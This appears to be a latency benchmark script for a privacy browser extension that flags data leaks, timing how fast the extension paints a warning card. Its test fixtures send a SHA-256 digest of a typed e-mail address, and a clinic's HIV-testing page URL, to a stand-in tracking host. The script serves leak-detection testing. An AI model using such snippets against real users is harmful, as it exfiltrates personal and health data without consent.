// How long from a request leaving to its card painted. A figure, not a test:
//   node tests/browser/latency.mjs --extension DIR [--rounds N] [--typed]
// Prints one line of JSON: {"rounds", "p50", "p95", "max"} in milliseconds. Both instants are taken in the page's own
// process, by one clock: in the page right before `fetch`, and in the content script's world at the second frame after the
// card's text changed, when the first has been painted. With `--typed`, each round types a new value into a field, and the page
// sends its SHA-256 200 ms after the last key: how long until a card says so, though the value had to be made ready first.
import { resolve } from "node:path";
import { parseArgs } from "node:util";
import { address } from "../clinic/site.mjs";
import { stageIntake } from "../clinic/intake.mjs";
import { startChromium } from "./lib/chromium.mjs";
import { Sink } from "./lib/sink.mjs";
import { Watched } from "./lib/watched.mjs";

const { values: options } = parseArgs({
  options: { extension: { type: "string" }, rounds: { type: "string", default: "60" }, typed: { type: "boolean", default: false } },
});
/** A page that sends the digest of an e-mail 200 ms after its last key. */
const digests = `<script>
  let timer;
  const later = () => {
    clearTimeout(timer);
    window.left = new Promise((done) => (timer = setTimeout(async () => {
      const text = new TextEncoder().encode(document.querySelector("#email").value.trim().toLowerCase());
      const digest = [...new Uint8Array(await crypto.subtle.digest("SHA-256", text))].map((b) => b.toString(16).padStart(2, "0")).join("");
      done(performance.timeOrigin + performance.now());
      fetch("https://collector.example/in?h=" + digest, { mode: "no-cors" });
    }, 200)));
  };
  document.querySelector("#email").addEventListener("input", later);
</script>`;
const rounds = Number(options.rounds);
const sink = await Sink.start();
const browser = await startChromium({ sink, extension: resolve(options.extension) });
try {
  const watched = await Watched.open(browser, address("home", "clean"));
  const { page } = watched;
  const times = [];
  if (options.typed) await page.goto(stageIntake(sink, "/p/60", digests), { waitUntil: "load" });
  // The pill opened: what is painted is a card.
  for (const key of ["Alt", "Shift"]) await page.keyboard.down(key);
  await page.keyboard.press("KeyK");
  for (const key of ["Alt", "Shift"]) await page.keyboard.up(key);
  for (let i = 1; i <= rounds; i++) {
    // The same leak again: its one card must say the new count.
    const [realm] = await page.extensionRealms();
    const ready = await realm.evaluateHandle((count, word) => {
      const roots = [...document.documentElement.children].map((e) => chrome.dom.openOrClosedShadowRoot(e)).filter(Boolean);
      const shown = () => roots.some((r) => [...r.querySelectorAll("article")]
        .some((card) => card.textContent.includes(word) && card.textContent.includes(`×${count} `)));
      return {
        painted: new Promise((done) => {
          const watch = new MutationObserver(() => {
            if (!shown()) return;
            watch.disconnect();
            requestAnimationFrame(() => requestAnimationFrame(() => done(performance.timeOrigin + performance.now())));
          });
          for (const root of roots) watch.observe(root, { childList: true, subtree: true, characterData: true });
        }),
      };
    }, i, options.typed ? "→ SHA-256" : "collector.example");
    if (options.typed) {
      await page.$eval("#email", (field) => field.select());
      await page.type("#email", `rosa.delgado.${i}@mailbox.example`);
    }
    const left = options.typed ? await page.evaluate(() => window.left) : await page.evaluate(() => {
      const at = performance.timeOrigin + performance.now();
      fetch(`https://collector.example/in?dl=${encodeURIComponent("https://www.bayside-clinic.example/conditions/hiv-testing")}`, { mode: "no-cors" });
      return at;
    });
    times.push((await ready.evaluate((r) => r.painted)) - left);
    await ready.dispose();
  }
  times.sort((a, b) => a - b);
  const at = (part) => Math.round(times[Math.min(times.length - 1, Math.floor(times.length * part))] * 10) / 10;
  console.log(JSON.stringify({ rounds, p50: at(0.5), p95: at(0.95), max: at(1) }));
} finally {
  await browser.close();
  await sink.close();
}
